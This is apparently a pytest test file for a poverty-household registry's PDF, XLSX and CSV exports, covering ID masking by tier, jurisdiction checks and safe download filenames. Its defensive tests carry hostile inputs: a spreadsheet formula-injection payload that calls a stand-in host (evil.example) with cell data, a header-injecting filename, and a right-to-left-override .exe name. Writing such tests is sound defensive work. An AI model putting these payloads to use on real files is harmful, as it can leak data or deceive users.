"""Exports (户卡, 村册, 乡簿, 县档) on real PostgreSQL: each file is read back and must hold what was stored,
with full ID numbers at the county tier and below and nothing but masked ones above it."""

from __future__ import annotations

import csv
import io
import itertools
import re
import uuid
from typing import Any
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import text as sa_text

from fupin_kit.pii import check_digit
from registry.exports import service as export_service

VILLAGE = "520102016001"  # 纪念塔社区, 新华路街道, 南明区, 贵阳市, 贵州省
SIBLING = "520102016002"
TOWNSHIP = "520102016000"
COUNTY = "520102000000"
CITY = "520100000000"
PROVINCE = "520000000000"
OTHER_COUNTY = "520103000000"
OTHER_VILLAGE = "520103019001"
ACCOUNT = "6228480012345678"
FULL_ID = re.compile(r"\d{17}[\dX]")

_serial = itertools.count(1)


def resident_id(male: bool, birth: str = "19700101") -> str:
    n = next(_serial)
    first17 = f"520102{birth}{(n * 2 + (1 if male else 0)) % 1000:03d}"
    return first17 + check_digit(first17)


def person(name: str, relation: str, male: bool, **fields: Any) -> dict[str, Any]:
    return {
        "name": name,
        "sex": "male" if male else "female",
        "resident_id": resident_id(male),
        "relation": relation,
        "health": "healthy",
        "labour_capacity": "ordinary",
        **fields,
    }


def household(division: str, head: str, members: list[dict[str, Any]], **fields: Any) -> dict[str, Any]:
    return {
        "division": division,
        "village_group": "三组",
        "address": "纪念塔路 8 号",
        "head_name": head,
        "phone": "13800000000",
        "bank_name": "农村信用社",
        "bank_account": ACCOUNT,
        "identification_standard": "national",
        "attribute": "dibao_poor",
        "main_cause": "illness",
        "other_causes": ["lack_capital", "lack_skills"],
        "living": {
            "housing_area": "62.5",
            "housing_structure": "brick_wood",
            "housing_year_built": 1998,
            "housing_safety_grade": "C",
            "has_electricity": True,
            "fuel": "firewood",
            "drinking_water": "difficult",
        },
        "members": members,
        "registered_on": "2020-01-01",
        **fields,
    }


def auth(registry: Any, tier: str, division: str, roles: list[str] | None = None) -> dict[str, str]:
    headers: dict[str, str] = registry.auth(tier, division, roles or ["cadre"])
    return headers


async def create(registry: Any, body: dict[str, Any]) -> dict[str, Any]:
    response = await registry.client.post("/households", json=body, headers=auth(registry, "county", COUNTY))
    assert response.status_code == 201, response.text
    data: dict[str, Any] = response.json()
    return data


async def populate(registry: Any) -> dict[str, Any]:
    """Two households in the village (one registered, with incomes), one in the sibling village."""
    wang = [
        person("王德贵", "head", True, health="chronic"),
        person("李秀英", "spouse", False),
        person("王小明", "son", True, education="junior_high", schooling="junior_high"),
    ]
    first = await create(registry, household(VILLAGE, "王德贵", wang))
    officer = auth(registry, "county", COUNTY, ["officer"])
    response = await registry.client.post(
        f"/households/{first['id']}/status-commands",
        json={"action": "register", "reason": "县级审批"},
        headers=officer,
    )
    assert response.status_code == 200, response.text
    for year, wage in ((2022, "6000"), (2023, "9000")):
        response = await registry.client.put(
            f"/households/{first['id']}/incomes/{year}",
            json={"wage": wage, "business": "2000", "transfer": "1500", "production_costs": "500"},
            headers=officer,
        )
        assert response.status_code == 200, response.text
    zhao = [person("赵桂兰", "head", False, health="serious_illness", labour_capacity="lost")]
    second = await create(
        registry, household(VILLAGE, "赵桂兰", zhao, main_cause="lack_labour", other_causes=[])
    )
    sun = [person("孙国强", "head", True), person("孙丽", "daughter", False)]
    third = await create(
        registry, household(SIBLING, "孙国强", sun, main_cause="lack_skills", other_causes=[])
    )
    ids = [m["resident_id"] for m in wang + zhao + sun]
    return {"households": [first, second, third], "ids": ids, "names": [m["name"] for m in wang + zhao + sun]}


async def fetch(registry: Any, path: str, tier: str, division: str) -> bytes:
    response = await registry.client.get(path, headers=auth(registry, tier, division))
    assert response.status_code == 200, response.text
    content: bytes = response.content
    return content


def pdf_text(body: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


def workbook_text(body: bytes) -> str:
    workbook = load_workbook(io.BytesIO(body), read_only=True)
    return "\n".join(
        "\t".join("" if cell is None else str(cell) for cell in row)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
    )


def sheet_rows(body: bytes, title: str) -> list[dict[str, Any]]:
    sheet = load_workbook(io.BytesIO(body))[title]
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


async def test_household_card_pdf_shows_the_file_with_full_ids_at_the_county(writable_registry) -> None:
    registry = writable_registry
    data = await populate(registry)
    first = data["households"][0]
    response = await registry.client.get(
        f"/exports/households/{first['id']}/card.pdf", headers=auth(registry, "county", COUNTY)
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    text = pdf_text(response.content)
    for expected in (
        "贫困户建档立卡信息卡",
        "贵州省贵阳市南明区",  # the village's full name from the real tree (市辖区 placeholders left out)
        "纪念塔社区",
        "三组",
        "王德贵",
        "李秀英",
        "王小明",
        "建档立卡贫困户",
        "标识：红",
        "低保贫困户",
        "国家标准",
        "因病",
        "缺资金、缺技术",
        "砖木",
        "C级（局部危房）",
        "饮水困难",
        "长期慢性病",
        "初中",
        "人均纯收入：4,000.00 元（2023年）",  # (9000 + 2000 + 1500 - 500) / 3
        "2022",
        ACCOUNT,
    ):
        assert expected in text, expected
    for full in data["ids"][:3]:
        assert full in text


async def test_household_card_above_the_county_masks_ids_and_accounts(writable_registry) -> None:
    registry = writable_registry
    data = await populate(registry)
    first = data["households"][0]
    body = await fetch(registry, f"/exports/households/{first['id']}/card.pdf", "city", CITY)
    text = pdf_text(body)
    assert "王德贵" in text
    assert data["ids"][0][:6] + "********" + data["ids"][0][-4:] in text
    assert not FULL_ID.search(text.replace(" ", ""))
    assert ACCOUNT not in text and "5678" in text


async def test_village_register_xlsx_holds_every_household_and_member(writable_registry) -> None:
    registry = writable_registry
    data = await populate(registry)
    body = await fetch(registry, f"/exports/villages/{VILLAGE}/register.xlsx", "village", VILLAGE)
    workbook = load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["户", "成员"]
    assert workbook["户"].freeze_panes == "A2" and workbook["成员"].freeze_panes == "A2"
    assert workbook["成员"].column_dimensions["G"].width == 24
    households = sheet_rows(body, "户")
    assert sorted(row["户主姓名"] for row in households) == ["王德贵", "赵桂兰"]
    wang = next(row for row in households if row["户主姓名"] == "王德贵")
    assert wang["村（社区）"] == "纪念塔社区"
    assert wang["贫困户状态"] == "建档立卡贫困户" and wang["标识颜色"] == "红"
    assert wang["主要致贫原因"] == "因病" and wang["其他致贫原因"] == "缺资金、缺技术"
    assert wang["人均纯收入（元）"] == pytest.approx(4000)
    assert wang["收入年度"] == 2023 and wang["家庭人口数"] == 3
    assert wang["银行账号"] == ACCOUNT  # village tier: below the county, sees everything
    members = sheet_rows(body, "成员")
    assert sorted(row["姓名"] for row in members) == sorted(data["names"][:4])
    assert {row["证件号码"] for row in members} == set(data["ids"][:4])
    son = next(row for row in members if row["姓名"] == "王小明")
    assert son["与户主关系"] == "之子" and son["性别"] == "男" and son["户编号"] == wang["户编号"]
    assert "孙国强" not in workbook_text(body)  # the sibling village is not in this register


async def test_township_book_has_a_summary_and_a_sheet_per_village(writable_registry) -> None:
    registry = writable_registry
    await populate(registry)
    body = await fetch(registry, f"/exports/townships/{TOWNSHIP}/book.xlsx", "county", COUNTY)
    workbook = load_workbook(io.BytesIO(body))
    assert workbook.sheetnames[0] == "汇总"
    assert "纪念塔社区" in workbook.sheetnames
    assert len(workbook.sheetnames) > 3  # every village of the township, empty ones too
    summary = {row["行政区划代码"]: row for row in sheet_rows(body, "汇总")}
    village = summary[VILLAGE]
    assert village["户数"] == 2 and village["人口数"] == 4
    assert village["建档立卡贫困户（户）"] == 1 and village["待识别（户）"] == 1
    assert village["因病（户）"] == 1 and village["缺劳力（户）"] == 1
    assert summary[SIBLING]["户数"] == 1 and summary[SIBLING]["缺技术（户）"] == 1
    assert summary["合计"]["户数"] == 3 and summary["合计"]["人口数"] == 6
    heads = [row["户主姓名"] for row in sheet_rows(body, "纪念塔社区")]
    assert sorted(heads) == ["王德贵", "赵桂兰"]
    row = next(r for r in sheet_rows(body, "纪念塔社区") if r["户主姓名"] == "王德贵")
    assert row["家庭成员"] == "王德贵（户主）、李秀英（配偶）、王小明（之子）"


async def test_county_archive_csv_is_streamed_with_bom_and_full_ids(writable_registry, monkeypatch) -> None:
    registry = writable_registry
    data = await populate(registry)
    monkeypatch.setattr(export_service, "PAGE_SIZE", 2)  # three households: the keyset crosses pages
    body = await fetch(registry, f"/exports/counties/{COUNTY}/archive.csv", "county", COUNTY)
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 6
    assert sorted(row["姓名"] for row in rows) == sorted(data["names"])
    assert {row["证件号码"] for row in rows} == set(data["ids"])
    sun = next(row for row in rows if row["姓名"] == "孙丽")
    assert sun["户主姓名"] == "孙国强" and sun["行政区划代码"] == SIBLING and sun["与户主关系"] == "之女"
    assert sun["出生日期"] == "1970-01-01"
    wang = next(row for row in rows if row["姓名"] == "王德贵")
    assert wang["人均纯收入（元）"] == "4000.00" and wang["健康状况"] == "长期慢性病"


async def test_county_archive_xlsx_holds_the_whole_county(writable_registry, monkeypatch) -> None:
    registry = writable_registry
    data = await populate(registry)
    monkeypatch.setattr(export_service, "PAGE_SIZE", 1)
    body = await fetch(registry, f"/exports/counties/{COUNTY}/archive.xlsx", "county", COUNTY)
    assert len(sheet_rows(body, "户")) == 3
    members = sheet_rows(body, "成员")
    assert {row["证件号码"] for row in members} == set(data["ids"])


INJECTED_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'


async def test_text_that_looks_like_a_formula_stays_text_in_every_spreadsheet(writable_registry) -> None:
    """Formula injection: a household's own text never becomes a formula in the exports officials open."""
    registry = writable_registry
    members = [person("钱多多", "head", True)]
    await create(
        registry, household(VILLAGE, "钱多多", members, address=INJECTED_ADDRESS, village_group="+1组")
    )

    for path, tier, division, title in (
        (f"/exports/villages/{VILLAGE}/register.xlsx", "village", VILLAGE, "户"),
        (f"/exports/townships/{TOWNSHIP}/book.xlsx", "county", COUNTY, "纪念塔社区"),
        (f"/exports/counties/{COUNTY}/archive.xlsx", "county", COUNTY, "户"),
    ):
        sheet = load_workbook(io.BytesIO(await fetch(registry, path, tier, division)))[title]
        header = [cell.value for cell in sheet[1]]
        cell = sheet.cell(row=2, column=header.index("家庭住址") + 1)
        assert cell.data_type == "s" and cell.value == INJECTED_ADDRESS, path
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row), path

    body = await fetch(registry, f"/exports/counties/{COUNTY}/archive.csv", "county", COUNTY)
    row = next(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert row["家庭住址"] == "'" + INJECTED_ADDRESS and row["组"] == "'+1组"


@pytest.mark.parametrize(("tier", "division"), [("city", CITY), ("province", PROVINCE)])
async def test_above_the_county_no_full_id_appears_in_any_export(writable_registry, tier, division) -> None:
    registry = writable_registry
    data = await populate(registry)
    first = data["households"][0]
    texts = {
        "csv": (await fetch(registry, f"/exports/counties/{COUNTY}/archive.csv", tier, division)).decode(),
        "xlsx": workbook_text(
            await fetch(registry, f"/exports/counties/{COUNTY}/archive.xlsx", tier, division)
        ),
        "book": workbook_text(
            await fetch(registry, f"/exports/townships/{TOWNSHIP}/book.xlsx", tier, division)
        ),
        "register": workbook_text(
            await fetch(registry, f"/exports/villages/{VILLAGE}/register.xlsx", tier, division)
        ),
        "card": pdf_text(
            await fetch(registry, f"/exports/households/{first['id']}/card.pdf", tier, division)
        ),
    }
    for name, text in texts.items():
        assert not FULL_ID.search(text.replace(" ", "")), name
        assert ACCOUNT not in text, name
        assert "13800000000" not in text, name  # the phone number, masked above the county
        assert "王德贵" in text, name
    rows = list(csv.DictReader(io.StringIO(texts["csv"].lstrip("\ufeff"))))
    assert {row["联系电话"] for row in rows if row["联系电话"]} == {"138****0000"}
    masked = {row["证件号码"] for row in rows}
    assert masked == {f"{full[:6]}********{full[-4:]}" for full in data["ids"]}
    assert all(row["出生日期"] == "" for row in rows)  # the birth date would complete a masked ID


@pytest.mark.parametrize(("tier", "division"), [("city", CITY), ("province", PROVINCE)])
async def test_above_the_county_ids_and_phones_typed_into_free_text_are_masked_in_every_export(
    writable_registry, tier, division
) -> None:
    """组, address and bank name are free text, and cadres type ID cards and mobiles into them: above the
    county the 户卡 and the 村册/乡簿/县档 columns show them masked, as the API and history do."""
    registry = writable_registry
    head_id = resident_id(True)
    members = [person("韦七", "head", True)]
    typed = {
        "address": f"岜沙村三组12号 户主身份证{head_id} 手机13987654321",
        "bank_name": "农村信用社 联系人13711112222",
        "village_group": f"三组{head_id}",
    }
    found = await create(registry, household(VILLAGE, "韦七", members, **typed))
    masked_id = head_id[:6] + "********" + head_id[-4:]
    masked = {
        "家庭住址": f"岜沙村三组12号 户主身份证{masked_id} 手机139****4321",
        "开户银行": "农村信用社 联系人137****2222",
        "组": f"三组{masked_id}",
    }
    workbooks = {
        "xlsx": (f"/exports/counties/{COUNTY}/archive.xlsx", "户"),
        "book": (f"/exports/townships/{TOWNSHIP}/book.xlsx", "纪念塔社区"),
        "register": (f"/exports/villages/{VILLAGE}/register.xlsx", "户"),
    }
    texts = {
        "csv": (await fetch(registry, f"/exports/counties/{COUNTY}/archive.csv", tier, division)).decode()
    }
    for name, (path, title) in workbooks.items():
        body = await fetch(registry, path, tier, division)
        texts[name] = workbook_text(body)
        (row,) = [row for row in sheet_rows(body, title) if row["户主姓名"] == "韦七"]
        assert {header: row[header] for header in masked} == masked, name
    texts["card"] = pdf_text(
        await fetch(registry, f"/exports/households/{found['id']}/card.pdf", tier, division)
    )
    for name, text in texts.items():
        assert not FULL_ID.search(text.replace(" ", "")), name
        flat = re.sub(r"\s", "", text)  # the PDF wraps long values
        assert head_id not in flat and "13987654321" not in flat and "13711112222" not in flat, name
    card = re.sub(r"\s", "", texts["card"])
    assert all(re.sub(r"\s", "", value) in card for value in masked.values())
    (row,) = [
        row for row in csv.DictReader(io.StringIO(texts["csv"].lstrip("\ufeff"))) if row["姓名"] == "韦七"
    ]
    assert {header: row[header] for header in masked} == masked

    # The county sees the text as typed.
    county = await fetch(registry, f"/exports/counties/{COUNTY}/archive.csv", "county", COUNTY)
    (row,) = [row for row in csv.DictReader(io.StringIO(county.decode("utf-8-sig"))) if row["姓名"] == "韦七"]
    assert (row["家庭住址"], row["开户银行"], row["组"]) == (
        typed["address"],
        typed["bank_name"],
        typed["village_group"],
    )
    card = re.sub(
        r"\s",
        "",
        pdf_text(await fetch(registry, f"/exports/households/{found['id']}/card.pdf", "county", COUNTY)),
    )
    assert head_id in card and "13987654321" in card and "13711112222" in card


async def test_exports_outside_the_jurisdiction_are_404_and_wrong_levels_422(writable_registry) -> None:
    registry = writable_registry
    data = await populate(registry)
    first = data["households"][0]
    refused = [
        (f"/exports/households/{first['id']}/card.pdf", "village", SIBLING),
        (f"/exports/households/{first['id']}/card.pdf", "county", OTHER_COUNTY),
        (f"/exports/villages/{VILLAGE}/register.xlsx", "village", SIBLING),
        (f"/exports/villages/{OTHER_VILLAGE}/register.xlsx", "county", COUNTY),
        (f"/exports/townships/{TOWNSHIP}/book.xlsx", "village", VILLAGE),  # a parent
        (f"/exports/counties/{COUNTY}/archive.csv", "county", OTHER_COUNTY),
        (f"/exports/counties/{COUNTY}/archive.xlsx", "township", TOWNSHIP),
        (f"/exports/counties/{OTHER_COUNTY}/archive.csv", "city", "520300000000"),  # a cousin city
    ]
    for path, tier, division in refused:
        response = await registry.client.get(path, headers=auth(registry, tier, division))
        assert response.status_code == 404, (path, tier, division, response.text)
    wrong_level = [
        f"/exports/villages/{TOWNSHIP}/register.xlsx",
        f"/exports/townships/{VILLAGE}/book.xlsx",
        f"/exports/counties/{TOWNSHIP}/archive.csv",
        f"/exports/counties/{CITY}/archive.xlsx",
    ]
    for path in wrong_level:
        response = await registry.client.get(path, headers=auth(registry, "city", CITY))
        assert response.status_code == 422, (path, response.text)
    response = await registry.client.get(
        "/exports/villages/12345/register.xlsx", headers=auth(registry, "city", CITY)
    )
    assert response.status_code == 422


# RFC 6266 with RFC 5987's ext-value, strictly: one quoted ASCII filename without quotes or backslashes
# inside (so nothing needs escaping), one filename* of attr-chars and percent-encoded UTF-8 bytes.
DISPOSITION = re.compile(
    r"attachment; filename=\"(?P<fallback>[A-Za-z0-9._()-]+)\"; "
    r"filename\*=UTF-8''(?P<encoded>(?:[A-Za-z0-9!#$&+.^_`|~-]|%[0-9A-F]{2})+)"
)


def download_name(response: Any) -> tuple[str, str]:
    """(the ASCII fallback, the decoded filename*) of a download, or an AssertionError if malformed."""
    header = response.headers["content-disposition"]
    match = DISPOSITION.fullmatch(header)
    assert match is not None, header
    return match["fallback"], unquote(match["encoded"], errors="strict")


@pytest.mark.parametrize(
    ("head", "shown"),
    [
        ('王"小"二; filename=a.exe', "王_小_二_ filename=a.exe"),
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
            "=HYPERLINK(_http___evil.example__x=_&A1,_点击_)",
        ),
        ("王\u202egpj.exe", "王_gpj.exe"),  # a right-to-left override would show the name reversed
        ("王\\二\t", "王_二_"),
    ],
)
async def test_a_card_is_named_safely_whatever_its_heads_name_holds(writable_registry, head, shown) -> None:
    """A quote in the head's name ended the quoted filename early and added a second filename= parameter;
    a URL put '/' into filename*. Every character that is structure in a header or a path is now '_'.
    The API refuses a bidirectional override in a name today; a file written before that rule (or by a
    path that does not check it) still holds one, so the name is stored as it would have been."""
    registry = writable_registry
    created = await create(registry, household(VILLAGE, "王二", [person("王二", "head", True)]))
    async with registry.app.state.engine.begin() as connection:
        await connection.execute(
            sa_text("UPDATE households SET head_name = :head WHERE id = :id"),
            {"head": head, "id": uuid.UUID(created["id"])},
        )
    response = await registry.client.get(
        f"/exports/households/{created['id']}/card.pdf", headers=auth(registry, "county", COUNTY)
    )
    assert response.status_code == 200, response.text
    assert download_name(response) == (f"card-{created['id']}.pdf", f"户卡-{shown}-{created['id']}.pdf")


async def test_every_export_and_template_is_named_in_rfc_6266_form(writable_registry) -> None:
    registry = writable_registry
    await populate(registry)
    expected = {
        f"/exports/villages/{VILLAGE}/register.xlsx": (
            f"register-{VILLAGE}.xlsx",
            f"村册-纪念塔社区-{VILLAGE}.xlsx",
        ),
        f"/exports/townships/{TOWNSHIP}/book.xlsx": (
            f"book-{TOWNSHIP}.xlsx",
            f"乡簿-新华路街道-{TOWNSHIP}.xlsx",
        ),
        f"/exports/counties/{COUNTY}/archive.xlsx": (f"archive-{COUNTY}.xlsx", f"县档-南明区-{COUNTY}.xlsx"),
        f"/exports/counties/{COUNTY}/archive.csv": (f"archive-{COUNTY}.csv", f"县档-南明区-{COUNTY}.csv"),
        "/imports/template.xlsx": ("import-template.xlsx", "贫困户登记表.xlsx"),
        "/imports/template.csv": ("import-template.csv", "贫困户登记表.csv"),
    }
    for path, names in expected.items():
        response = await registry.client.get(path, headers=auth(registry, "county", COUNTY))
        assert response.status_code == 200, (path, response.text)
        assert download_name(response) == names, path


# ---- the card's layout ----------------------------------------------------------------------------------

LONG_ADDRESS = (
    "贵州省黔东南苗族侗族自治州雷山县郎德镇也改村三组27号（村小学后面第二栋木房，门前有一棵大枫香树）左手边"
)
LONG_BANK = "贵州雷山农村商业银行股份有限公司郎德支行"


def text_runs(body: bytes) -> list[tuple[int, float, float, float, str]]:
    """Every piece of text drawn on the card: (page, x, baseline y, font size, text), in points."""
    runs: list[tuple[int, float, float, float, str]] = []
    for number, page in enumerate(PdfReader(io.BytesIO(body)).pages):

        def visit(
            text: str, cm: list[float], tm: list[float], font: Any, size: float, page: int = number
        ) -> None:
            if text.strip():
                x = tm[4] * cm[0] + tm[5] * cm[2] + cm[4]
                y = tm[4] * cm[1] + tm[5] * cm[3] + cm[5]
                runs.append((page, x, y, size * tm[0] * cm[0], text.strip()))

        page.extract_text(visitor_text=visit)
    return runs


def overlaps(body: bytes) -> list[str]:
    """Pairs of text pieces drawn over each other on one line, and pieces running off the page: widths
    measured in the card's own font, as fpdf2 laid them out."""
    from fpdf import FPDF

    from fupin_kit.cjk_font import find_font

    ruler = FPDF(unit="pt", format="A4", orientation="L")
    ruler.add_font("cjk", "", str(find_font()))
    boxes = []
    for page, x, y, size, text in text_runs(body):
        ruler.set_font("cjk", size=size)
        boxes.append((page, x, x + ruler.get_string_width(text), y, size, text))
    margin = 12 * 72 / 25.4  # the card's 12 mm
    found = [
        f"{text!r} runs off the page"
        for _, left, right, _, _, text in boxes
        if left < margin - 0.5 or right > ruler.w - margin + 0.5
    ]
    for index, (page, left, right, y, size, text) in enumerate(boxes):
        for other in boxes[index + 1 :]:
            same_line = other[0] == page and abs(other[3] - y) < min(size, other[4]) * 0.8
            if same_line and min(right, other[2]) - max(left, other[1]) > 0.5:
                found.append(f"{text!r} and {other[5]!r} overlap")
    return found


async def test_long_values_on_the_card_wrap_instead_of_running_over_their_neighbours(
    writable_registry,
) -> None:
    """A long address or bank name was drawn in a 42 mm cell it did not fit, over the next label and value."""
    registry = writable_registry
    head = "吴老三"
    body = household(
        VILLAGE,
        head,
        [person(head, "head", True)],
        address=LONG_ADDRESS,
        bank_name=LONG_BANK,
        bank_account="6217790012345678901",
        village_group="第三村民小组（原四组与五组合并后的新三组，含原四组全部农户）",
    )
    created = await create(registry, body)
    for tier, division in (("county", COUNTY), ("city", CITY)):
        card = await fetch(registry, f"/exports/households/{created['id']}/card.pdf", tier, division)
        assert overlaps(card) == [], tier
        text = pdf_text(card).replace("\n", "")
        for value in (LONG_ADDRESS, LONG_BANK, body["village_group"]):
            assert value in text, (tier, value)  # wrapped, every character still there and in order


# ---- incomes and members in every spreadsheet ------------------------------------------------------------

INCOME_COLUMNS = (
    "收入年度",
    "工资性收入（元）",
    "家庭经营性收入（元）",
    "转移性收入（元）",
    "财产性收入（元）",
    "生产经营性支出（元）",
    "家庭纯收入（元）",
    "人均纯收入（元）",
)
# 王德贵's latest year (2023): 9000 + 2000 + 1500 + 0 - 500 = 12000 for 3 people.
WANG_2023 = (2023, 9000, 2000, 1500, 0, 500, 12000, 4000)


def incomes_of(row: dict[str, Any]) -> tuple[Any, ...]:
    return tuple(None if row[name] in (None, "") else float(row[name]) for name in INCOME_COLUMNS)


async def test_every_spreadsheet_carries_the_latest_income_breakdown_and_the_book_its_members(
    writable_registry,
) -> None:
    """domain.md §2's income by year (wage, business, transfer, property; costs; net) was on the card only:
    the spreadsheets had the year and the per-capita figure. The 乡簿 had no member fields at all."""
    registry = writable_registry
    data = await populate(registry)
    register = await fetch(registry, f"/exports/villages/{VILLAGE}/register.xlsx", "county", COUNTY)
    archive = await fetch(registry, f"/exports/counties/{COUNTY}/archive.xlsx", "county", COUNTY)
    book = await fetch(registry, f"/exports/townships/{TOWNSHIP}/book.xlsx", "county", COUNTY)
    csv_body = await fetch(registry, f"/exports/counties/{COUNTY}/archive.csv", "county", COUNTY)
    sheets = {
        "村册": sheet_rows(register, "户"),
        "县档.xlsx": sheet_rows(archive, "户"),
        "乡簿": sheet_rows(book, "纪念塔社区"),
        "县档.csv": list(csv.DictReader(io.StringIO(csv_body.decode("utf-8-sig")))),
    }
    for name, rows in sheets.items():
        by_head = {row["户主姓名"]: incomes_of(row) for row in rows}
        assert by_head["王德贵"] == tuple(map(float, WANG_2023)), name
        assert by_head["赵桂兰"] == (None,) * len(INCOME_COLUMNS), name  # no income recorded

    members = sheet_rows(book, "成员")
    assert load_workbook(io.BytesIO(book)).sheetnames[:2] == ["汇总", "成员"]
    assert sorted(row["姓名"] for row in members) == sorted(data["names"])  # both villages of the township
    assert {row["证件号码"] for row in members} == set(data["ids"])
    son = next(row for row in members if row["姓名"] == "王小明")
    assert (son["与户主关系"], son["性别"], son["文化程度"], son["健康状况"], son["劳动能力"]) == (
        "之子",
        "男",
        "初中",
        "健康",
        "普通劳动力",
    )
    assert {row["享受低保"] for row in members} <= {"是", "否"} and son["户主姓名"] == "王德贵"
    households = {row["户编号"] for row in sheet_rows(book, "纪念塔社区")}
    assert {row["户编号"] for row in members if row["行政区划代码"] == VILLAGE} == households

    city = await fetch(registry, f"/exports/townships/{TOWNSHIP}/book.xlsx", "city", CITY)
    masked = {row["证件号码"] for row in sheet_rows(city, "成员")}
    assert masked == {f"{full[:6]}********{full[-4:]}" for full in data["ids"]}


async def test_the_archive_csv_sends_excel_users_to_the_xlsx_whose_ids_are_text(writable_registry) -> None:
    """Excel reads the CSV's 18-digit IDs and 16-19-digit accounts as numbers (15 significant digits): the
    CSV's documentation says so and points to archive.xlsx, whose identifier cells are text."""
    registry = writable_registry
    data = await populate(registry)
    openapi = (await registry.client.get("/openapi.json")).json()
    described = openapi["paths"]["/exports/counties/{code}/archive.csv"]["get"]["description"]
    assert "15 significant digits" in described and "archive.xlsx" in described

    body = await fetch(registry, f"/exports/counties/{COUNTY}/archive.xlsx", "county", COUNTY)
    workbook = load_workbook(io.BytesIO(body))
    for title, columns in (
        ("户", ("行政区划代码", "银行账号", "联系电话")),
        ("成员", ("证件号码", "行政区划代码")),
    ):
        sheet = workbook[title]
        header = [cell.value for cell in sheet[1]]
        for column in columns:
            cells = [
                row[header.index(column)] for row in sheet.iter_rows(min_row=2) if row[0].value is not None
            ]
            assert cells and all(cell.data_type == "s" for cell in cells if cell.value is not None), column
    members = sheet_rows(body, "成员")
    assert {row["证件号码"] for row in members} == set(data["ids"])


def test_a_place_name_repeated_by_the_division_below_it_is_written_once() -> None:
    """QA10 Q2-2: 嘉峪关市's one district is 嘉峪关市; the card wrote 甘肃省嘉峪关市嘉峪关市雄关街道."""
    chain = [
        {"name": "甘肃省", "placeholder": False},
        {"name": "嘉峪关市", "placeholder": False},
        {"name": "嘉峪关市", "placeholder": False},
        {"name": "雄关街道", "placeholder": False},
    ]
    assert export_service.full_name(chain) == ["甘肃省", "嘉峪关市", "雄关街道"]
    beijing = [{"name": "北京市", "placeholder": False}, {"name": "市辖区", "placeholder": True}]
    assert export_service.full_name([*beijing, {"name": "东城区", "placeholder": False}]) == [
        "北京市",
        "东城区",
    ]
